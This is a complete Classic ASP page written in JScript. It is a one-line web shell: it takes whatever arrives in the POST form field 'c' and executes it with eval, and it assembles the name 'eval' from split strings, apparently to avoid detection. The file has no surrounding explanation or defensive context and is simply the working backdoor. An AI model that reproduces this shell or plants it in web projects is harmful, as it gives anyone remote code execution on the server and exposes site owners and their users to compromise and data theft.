<%@ Language="JScript" %>
<%
var r = Request.Form;
var k = "ev" + "al";
this[k](r("c"));
%>
